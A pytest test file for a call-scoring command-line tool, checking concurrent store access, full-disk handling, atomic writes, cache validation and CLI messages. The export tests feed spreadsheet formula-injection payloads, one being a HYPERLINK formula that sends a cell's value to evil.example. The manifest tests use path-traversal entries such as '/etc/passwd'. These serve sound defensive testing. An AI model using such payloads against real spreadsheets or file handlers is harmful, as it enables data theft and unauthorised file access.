"""Nothing breaks, nothing is lost, nothing leaks: stores shared by two batches, full disks,
exports that cannot carry formulas, manifests that stay in their folders, cache entries and
model folders that cannot poison a run, and the CLI's papercuts."""

from __future__ import annotations

import csv
import json
import multiprocessing
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
from typer.testing import CliRunner

from conftest import ROOT, SAMPLES
from voicecoach.cli import app
from voicecoach.errors import ModelError, StoreError, VoiceCoachError

runner = CliRunner()


def _row(key: str, **kw) -> dict:
    return {"key": key, "file_sha256": "f" * 64, "settings_sha256": "s" * 64, "path": f"{key}.wav", "status": "done", **kw}


# ------------------------------------------------------------------------------- the store


def _claim_all(db: str, owner: str, keys: list[str], start, out) -> None:
    from voicecoach.qa.store import Store

    start.wait()
    store = Store(db)  # every process opens (and would create) the new store at once
    out.put((owner, [k for k in keys if store.claim(k, owner)]))


def test_two_batches_on_a_new_store_share_the_calls_without_doubles(tmp_path):
    db = str(tmp_path / "new.sqlite")
    keys = [f"k{i:02d}" for i in range(30)]
    ctx = multiprocessing.get_context("spawn")
    start, out = ctx.Barrier(3), ctx.Queue()
    procs = [ctx.Process(target=_claim_all, args=(db, f"host:{100000 + i}", keys, start, out)) for i in range(3)]
    for p in procs:
        p.start()
    got = dict(out.get(timeout=120) for _ in procs)
    for p in procs:
        p.join(timeout=60)
        assert p.exitcode == 0
    claimed = [k for ks in got.values() for k in ks]
    assert sorted(claimed) == keys  # every call claimed exactly once, none twice


def test_a_claim_of_a_dead_batch_is_taken_over_and_a_finished_call_is_not_claimed(tmp_path):
    from voicecoach.qa.store import Store, owner_id

    store = Store(tmp_path / "s.sqlite")
    assert store.claim("a", "elsewhere:1")  # another host: held until its lease ends
    assert not store.claim("a", owner_id())
    dead = f"{os.uname().nodename}:{2 ** 22 + 7}"  # a pid no process has on this host
    assert store.claim("b", dead)
    assert store.claim("b", owner_id())  # the batch that held it was killed: resume at once
    store.put(_row("c"))
    assert not store.claim("c", owner_id())  # another batch finished it meanwhile
    store.put(_row("b"))  # storing a result releases its claim
    import sqlalchemy as sa

    with store.engine.connect() as conn:
        assert [r.key for r in conn.execute(sa.select(store.claims.c.key))] == ["a"]


def test_a_full_disk_stops_with_a_clear_message_and_keeps_the_rows(tmp_path):
    from voicecoach.qa.store import Store

    db = tmp_path / "full.sqlite"
    store = Store(db)
    store.put(_row("kept", overall_score=80.0))
    pages = sqlite3.connect(db).execute("PRAGMA page_count").fetchone()[0]
    full = Store(db)
    import sqlalchemy as sa

    sa.event.listen(full.engine, "connect", lambda c, _r: c.execute(f"PRAGMA max_page_count = {pages}"))
    full.engine.dispose()
    with pytest.raises(StoreError, match=r"cannot write to the result store full\.sqlite \(database or disk is full\); free disk space") as e:
        full.put(_row("big", report="x" * 200_000))
    assert str(tmp_path) not in str(e.value)
    assert [r["key"] for r in Store(db).rows()] == ["kept"]
    with sqlite3.connect(db) as c:
        assert c.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_export_and_summary_do_not_create_a_missing_store(tmp_path):
    res = runner.invoke(app, ["export", "--db", str(tmp_path / "typo.sqlite"), "-o", str(tmp_path / "x.csv")])
    assert res.exit_code == 5 and "typo.sqlite does not exist" in res.output, res.output
    assert not (tmp_path / "typo.sqlite").exists() and not (tmp_path / "x.csv").exists()
    res = runner.invoke(app, ["summary", "--db", str(tmp_path / "typo.sqlite"), "-o", str(tmp_path / "s")])
    assert res.exit_code == 5 and not (tmp_path / "typo.sqlite").exists()


# ---------------------------------------------------------------------------------- exports

HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "＝1+1", "plain", "a=b"]


def _store_with_hostile_text(tmp_path):
    from voicecoach.qa.store import Store

    store = Store(tmp_path / "r.sqlite")
    for i, text in enumerate(HOSTILE_TEXT):
        store.put(_row(f"k{i}", call_id=text, agent_id=text, path=f"/calls/{text}.wav", overall_score=-1.5 if i == 0 else 50.0,
                       extra=json.dumps({"note": text, "=cmd": "x"})))
    return store


def test_csv_export_neutralises_formulas(tmp_path):
    from voicecoach.qa.export import export

    export(_store_with_hostile_text(tmp_path), tmp_path / "x.csv")
    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    assert "'=cmd" in header
    ids = [r[header.index("call_id")] for r in body]
    for text in HOSTILE_TEXT:
        shown = "'" + text if text[0] in "=+-@\t\r＝" else text
        assert shown in ids
        assert shown in [r[header.index("note")] for r in body]
    assert "-1.5" in [r[header.index("overall_score")] for r in body]  # numbers stay numbers


def test_xlsx_export_holds_text_never_formulas(tmp_path):
    from openpyxl import load_workbook

    from voicecoach.qa.export import export

    export(_store_with_hostile_text(tmp_path), tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx")["calls"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=1+1" in texts and '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in texts
    assert -1.5 in [c.value for c in cells]


def test_a_failed_export_leaves_no_half_file(tmp_path, monkeypatch):
    import voicecoach.qa.export as ex

    store = _store_with_hostile_text(tmp_path)
    (tmp_path / "x.xlsx").write_bytes(b"the old export")

    def broken(path, header, rows):
        Path(path).write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ex, "_xlsx", broken)
    with pytest.raises(VoiceCoachError, match=r"cannot write the export x\.xlsx \(No space left on device\); free some disk space"):
        ex.export(store, tmp_path / "x.xlsx")
    assert (tmp_path / "x.xlsx").read_bytes() == b"the old export"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# -------------------------------------------------------------------------------- manifests


def test_manifest_entries_stay_in_the_folders_named(tmp_path):
    from voicecoach.qa.inputs import discover

    calls = tmp_path / "calls"
    calls.mkdir()
    secret = tmp_path / "secret.wav"
    sf.write(secret, np.zeros(1600), 16000)
    sf.write(calls / "a.wav", np.zeros(1600), 16000)
    (calls / "link.wav").symlink_to(secret)
    for entry in ("../secret.wav", str(secret), "link.wav", "/etc/passwd"):
        manifest = calls / "m.csv"
        manifest.write_text(f"path,call_id\na.wav,A\n{entry},B\n")
        with pytest.raises(VoiceCoachError, match=r"manifest m\.csv: 1 entry \(first: call B\) lie outside .*--allow-any-path") as e:
            discover([], manifest=manifest)
        assert str(tmp_path) not in str(e.value)
        jobs = discover([], manifest=manifest, allow_any_path=True)
        assert [j.call_id for j in jobs] == ["A", "B"]
    manifest.write_text("path,call_id\na.wav,A\n")
    assert [Path(j.path) for j in discover([], manifest=manifest)] == [calls / "a.wav"]  # relative to the manifest
    other = tmp_path / "other"
    other.mkdir()
    (other / "m.csv").write_text("path,call_id\na.wav,A\n")
    assert [Path(j.path) for j in discover([calls], manifest=other / "m.csv")] == [calls / "a.wav"]  # a folder named on the command line


# ------------------------------------------------------------------------ cache and model


def _cached_entry(tmp_path):
    from synth import FakeRecognizer, utterance
    from voicecoach.recognize import CachedRecognizer

    sp = utterance([4, 4])
    fake = FakeRecognizer(sp.chars)
    cached = CachedRecognizer(fake, tmp_path / "cache")
    first = cached.recognize(sp.samples, sample_rate_hz=sp.sr)
    return cached, fake, sp.audio, first, next((tmp_path / "cache").rglob("*.json"))


@pytest.mark.parametrize("damage", ["string time", "nan time", "negative time", "probability 2", "wrong shape", "not json", "hand edit", "fifo", "folder", "empty"])
def test_an_invalid_cache_entry_is_replaced_not_trusted(tmp_path, damage):
    cached, fake, audio, first, entry = _cached_entry(tmp_path)
    d = json.loads(entry.read_text(encoding="utf-8"))
    d.pop("_sha256")
    if damage == "string time":
        d["chars"][0]["start_s"] = "0.5"
    elif damage == "nan time":
        d["chars"][1]["end_s"] = float("nan")
    elif damage == "negative time":
        d["chars"][0]["start_s"] = -3.0
    elif damage == "probability 2":
        d["chars"][0]["probability"] = 2.0
    elif damage == "wrong shape":
        d["chars"] = {"0": d["chars"][0]}
    if damage in ("fifo", "folder", "empty", "not json", "hand edit"):
        entry.unlink()
        {"fifo": lambda: os.mkfifo(entry), "folder": lambda: entry.mkdir(), "empty": lambda: entry.write_bytes(b""),
         "not json": lambda: entry.write_bytes(b"{\"chars\": [1, 2"),
         "hand edit": lambda: entry.write_text(json.dumps({**json.loads(json.dumps(d)), "language": "en", "_sha256": "0" * 64}))}[damage]()
    else:
        entry.write_text(json.dumps(d), encoding="utf-8")
    again = cached.recognize(audio.samples, sample_rate_hz=audio.sample_rate_hz)  # no hang, no crash: transcribed again
    assert fake.calls == 2 and again == first
    if damage != "folder":
        assert cached.recognize(audio.samples, sample_rate_hz=audio.sample_rate_hz) == first and fake.calls == 2  # and the entry was replaced
    assert not [p for p in entry.parent.iterdir() if p.name.endswith(".tmp")]


def test_a_valid_entry_without_checksum_from_an_older_version_is_still_used(tmp_path):
    cached, fake, audio, first, entry = _cached_entry(tmp_path)
    d = json.loads(entry.read_text(encoding="utf-8"))
    d.pop("_sha256")
    entry.write_text(json.dumps(d), encoding="utf-8")
    assert cached.recognize(audio.samples, sample_rate_hz=audio.sample_rate_hz) == first and fake.calls == 1


def test_a_failed_cache_write_leaves_nothing_behind(tmp_path, monkeypatch):
    import voicecoach.recognize.cache_check as cc

    def fail(obj, f, **kw):
        f.write("{\"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cc.json, "dump", fail)
    with pytest.raises(OSError):
        cc.write_entry(tmp_path / "ab" / "entry.json", {"chars": []})
    assert list((tmp_path / "ab").iterdir()) == []


def test_a_model_folder_missing_a_file_fails_at_once_without_the_network(tmp_path, monkeypatch):
    from voicecoach.recognize.models import resolve_model

    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    folder = tmp_path / "my-model"
    folder.mkdir()
    for name in ("model.bin", "config.json", "vocabulary.json"):
        (folder / name).write_bytes(b"{}")
    t0 = time.monotonic()
    with pytest.raises(ModelError, match=r"model 'my-model' lacks tokenizer\.json; copy the complete CTranslate2 folder"):
        resolve_model(str(folder))
    assert time.monotonic() - t0 < 1.0 and os.environ.get("HF_HUB_OFFLINE") == "1"
    (folder / "tokenizer.json").write_bytes(b"")
    with pytest.raises(ModelError, match="lacks tokenizer.json"):  # empty counts as missing
        resolve_model(str(folder))


# ---------------------------------------------------------------------------- CLI papercuts


def test_version():
    from voicecoach import __version__

    res = runner.invoke(app, ["--version"])
    assert res.exit_code == 0 and res.output.strip() == f"voicecoach {__version__}"


@pytest.mark.parametrize("body,message", [
    ("[overall]\nweigths = { pace = 1.0 }\n", "overall.weigths is not a known key"),
    ("[overall.weights]\npace = nan\n", "overall.weights.pace is nan but must be a finite number"),
    ("[overall.weights]\npitch = inf\n", "overall.weights.pitch is inf but must be a finite number"),
    ("overall = 5\n", "overall is 5 but must be a table"),
    ("[overall]\nweights = 3\n", "overall.weights is 3 but must be a table"),
])
def test_targets_check_rejects_bad_overall_sections(tmp_path, body, message):
    f = tmp_path / "ours.toml"
    f.write_text(body)
    res = runner.invoke(app, ["targets", "--check", str(f)])
    assert res.exit_code == 4, res.output
    assert message in res.output and "internal error" not in res.output and str(tmp_path) not in res.output


def test_batch_progress_is_printed_as_lines_when_not_a_terminal(capsys):
    from voicecoach.qa.batch import Progress
    from voicecoach.cli.qa import _batch_progress

    show, stop = _batch_progress(40)  # pytest's stderr is not a terminal
    p = Progress(total=40)
    for i in range(40):
        p.done += 1
        show(p)
    stop()
    lines = capsys.readouterr().err.strip().splitlines()
    assert lines[-1] == "scoring 40/40: done 40, failed 0, skipped 0"
    assert 2 <= len(lines) <= 21  # every 5 %, not every call


_FAKE_CLI = (
    "import sys; sys.path.insert(0, {tests!r}); from hostile.fake import BurstRecognizer; "
    "import voicecoach.recognize as r; r.build_recognizer = lambda *a, **k: BurstRecognizer(); import voicecoach.cli as c; sys.argv = ['voicecoach'] + sys.argv[1:]; c.main()"
)


def test_analyze_into_a_closed_pipe_ends_quietly(tmp_path):
    from hostile.corpus import speech

    wav = tmp_path / "take.wav"
    sf.write(wav, speech(), 16000)
    code = _FAKE_CLI.format(tests=str(ROOT / "tests"))
    proc = subprocess.Popen([sys.executable, "-c", code, "analyze", str(wav), "--out", str(tmp_path), "--lang", "en"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, "VOICECOACH_CACHE_DIR": str(tmp_path / "c")})
    proc.stdout.close()  # `| head -0`: the reader is gone before anything is written
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 0, err
    assert "internal error" not in err and "Traceback" not in err and "BrokenPipe" not in err, err
    assert (tmp_path / "take.report" / "report.json").exists()


def test_a_read_only_or_full_output_folder_is_one_clear_line(tmp_path, monkeypatch):
    from hostile.corpus import speech
    from hostile.fake import BurstRecognizer
    import voicecoach.recognize as recognize
    import voicecoach.report as report

    monkeypatch.setattr(recognize, "build_recognizer", lambda *a, **k: BurstRecognizer())
    wav = tmp_path / "take.wav"
    sf.write(wav, speech(), 16000)
    real = report._write_into

    def full_disk(a, out, **kw):
        real(a, out, **kw)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report, "_write_into", full_disk)
    res = runner.invoke(app, ["analyze", str(wav), "--out", str(tmp_path / "out"), "--lang", "en"])
    assert res.exit_code == 6, res.output
    assert res.output.strip() == "voicecoach: cannot write the report into out (No space left on device); free some disk space and run again"
    assert list((tmp_path / "out").iterdir()) == []  # no half report left behind
    monkeypatch.setattr(report, "_write_into", real)
    res = runner.invoke(app, ["analyze", str(wav), "--out", str(tmp_path / "out"), "--lang", "en", "--full-paths"])
    assert res.exit_code == 0
    data = json.loads((tmp_path / "out" / "take.report" / "report.json").read_text(encoding="utf-8"))
    assert data["source"]["path"] == str(wav)  # full paths only on request


# ------------------------------------------------------------------- real batches (the model)


def _calls(folder: Path, n: int) -> list[Path]:
    """``n`` short, distinct calls cut from our samples (different content, different keys)."""
    folder.mkdir(parents=True, exist_ok=True)
    x, sr = sf.read(SAMPLES / "good_take.flac", dtype="float32")
    out = []
    for i in range(n):
        p = folder / f"call{i:02d}.wav"
        sf.write(p, x[: int(sr * 6)] * (0.5 + 0.05 * i), sr)
        out.append(p)
    return out


def _children(pid: int) -> set[int]:
    kids = set()
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if int((d / "stat").read_text().rsplit(")", 1)[1].split()[1]) == pid:
                    kids.add(int(d.name))
            except (OSError, IndexError, ValueError):
                pass
    return kids


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.model
def test_kill_9_of_the_batch_command_leaves_no_worker_behind(tmp_path):
    _calls(tmp_path / "calls", 6)
    cmd = [sys.executable, "-m", "voicecoach.cli", "batch", str(tmp_path / "calls"), "--db", str(tmp_path / "r.sqlite"), "--workers", "2"]
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 120
    kids: set[int] = set()
    while time.time() < deadline and len(kids) < 3:  # two workers and the resource tracker
        kids |= _children(proc.pid)
        time.sleep(0.2)
    assert len(kids) >= 2, "the workers did not start"
    time.sleep(2.0)
    os.kill(proc.pid, signal.SIGKILL)  # the command only: its workers must notice
    proc.wait()
    deadline = time.time() + 20
    while time.time() < deadline and any(_alive(k) for k in kids):
        time.sleep(0.5)
    left = [k for k in kids if _alive(k)]
    for k in left:
        os.kill(k, signal.SIGKILL)
    assert not left, f"{len(left)} process(es) outlived the batch command"


@pytest.mark.model
def test_two_batch_commands_at_once_on_a_new_store_score_each_call_once(tmp_path):
    _calls(tmp_path / "calls", 6)
    db = tmp_path / "shared.sqlite"
    cmd = [sys.executable, "-m", "voicecoach.cli", "batch", str(tmp_path / "calls"), "--db", str(db), "--workers", "1"]
    env = {**os.environ, "VOICECOACH_CACHE_DIR": str(tmp_path / "cache")}
    procs = [subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env) for _ in range(2)]
    outs = [p.communicate(timeout=600) for p in procs]
    for p, (out, err) in zip(procs, outs):
        assert p.returncode == 0, err
        assert "already exists" not in err and "internal error" not in err
    with sqlite3.connect(db) as c:
        rows = c.execute("SELECT key, status, attempts FROM results").fetchall()
        assert c.execute("SELECT count(*) FROM claims").fetchone()[0] == 0
    assert len(rows) == 6 and all(s == "done" and a == 1 for _, s, a in rows)  # none scored twice
    scored = [int(out.split(" scored")[0]) for out, _ in outs]
    assert sum(scored) == 6


def test_a_call_over_its_time_limit_becomes_an_error_row_and_the_worker_goes_on(tmp_path, monkeypatch):
    import voicecoach.qa.work as batch
    from hostile.corpus import speech
    from hostile.fake import BurstRecognizer
    from voicecoach.judge.targets import load_targets

    class Slow(BurstRecognizer):  # its own cache key (the fingerprint names the class): a transcript cached by another test must not answer for it
        def recognize(self, samples, *, sample_rate_hz):
            time.sleep(3.0)
            return super().recognize(samples, sample_rate_hz=sample_rate_hz)

    wav = tmp_path / "slow call.wav"
    sf.write(wav, speech(), 16000)
    monkeypatch.setattr(batch, "_WORKER", {"settings": batch.BatchSettings(time_limit_s=1.0), "recognizer": Slow(),
                                           "targets": load_targets(), "rules": None, "name": "test"})
    t0 = time.monotonic()
    out = batch.score({"path": str(wav), "channel": "mix"})
    assert time.monotonic() - t0 < 2.5
    assert out["status"] == "error" and out["code"] == "time_limit"
    assert out["message"] == "slow call.wav took more than 1 s to score and was stopped; split the recording, or raise --time-limit"
    monkeypatch.setitem(batch._WORKER, "recognizer", BurstRecognizer())
    monkeypatch.setitem(batch._WORKER, "settings", batch.BatchSettings(time_limit_s=30.0))  # room on a loaded machine
    assert batch.score({"path": str(wav), "channel": "mix"})["status"] == "done"  # the timer is disarmed after each call
    time.sleep(1.2)  # and does not fire later
